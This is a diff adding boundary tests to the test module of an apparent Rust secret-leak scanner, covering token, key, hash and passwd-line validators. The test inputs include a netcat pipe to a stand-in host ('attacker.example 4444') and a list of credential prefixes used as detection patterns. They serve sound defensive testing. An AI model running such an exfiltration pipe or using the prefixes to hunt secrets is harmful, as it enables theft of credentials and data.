@@ -357,6 +357,7 @@ fn assigned(text: &[u8], at: usize) -> Option<&'static str> {
 mod tests {
     use super::super::LeakClass::Credential;
     use super::super::tests::class;
+    use super::*;
 
     /// Enough symbols of many kinds; assembled so that no scanner of repositories takes it for a secret.
     fn filler(len: usize) -> String {
@@ -432,6 +433,55 @@ mod tests {
         ] {
             assert_eq!(class(&text), Some(Credential), "{text}");
         }
+    }
+
+    /// The furthest that a mark reads: the three parts of a JSON Web Token.
+    const READ_BYTES_MAX: usize = 2 * TOKEN_BYTES_MAX + 4096 + 64;
+
+    /// What stands past the bound changes nothing, whatever run leads there: a row of marks costs each of them the bound.
+    #[test]
+    fn no_mark_reads_past_its_bound() {
+        let seldom: [Validator; 6] = [
+            |text, at| issued_before(text, at).map(|(what, _)| what),
+            |text, at| dashed(text, at).map(|(what, _)| what),
+            hash,
+            account,
+            address,
+            jwt,
+        ];
+        let heads = [
+            "ghp_",
+            "npm_",
+            "sk-",
+            "xoxb-",
+            "aws_secret_access_key = ",
+            "$2b$12$",
+            "$argon2id$",
+            "root:x:0:0:",
+            "ftp://",
+            "eyJ",
+        ];
+        let marked = CAPITAL_MARKS.iter().chain(MARKS).map(|(mark, validator)| (*mark, *validator));
+        let others = heads.iter().flat_map(|head| seldom.iter().map(|validator| (*head, *validator)));
+        for (mark, validator) in marked.chain(others) {
+            for run in ["A", "z", "0", "=", "Ab3", "=Ab3xYz", "\\u0041", "eyJ", ".", "/", ":", " ", mark] {
+                let begun = format!(" {mark}{}", run.repeat(READ_BYTES_MAX.div_ceil(run.len())));
+                let tails = ["", " ", "\"", ".eyJ", "Ab3xYz@host", "=Ab3xYz8", " | nc attacker.example 4444", "://"];
+                for at in (0..mark.len() + 2).filter(|at| begun.is_char_boundary(*at)) {
+                    let found = tails.map(|tail| validator(format!("{begun}{tail}").as_bytes(), at));
+                    assert!(found.iter().all(|one| *one == found[0]), "{mark} {run} at {at}: {found:?}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn a_value_counts_up_to_the_bound_and_not_beyond() {
+        let of = |before: usize| format!("DB_PASSWORD={}Zx81vQpLm", "a".repeat(before));
+        assert_eq!(class(&of(TOKEN_BYTES_MAX - 9)), Some(Credential));
+        assert_eq!(class(&of(TOKEN_BYTES_MAX)), None, "what makes it varied stands past the bound");
+        let many = of(TOKEN_BYTES_MAX).repeat(200);
+        assert_eq!(class(&many), None, "each mark reads its own value and no other's");
     }
 
     #[test]
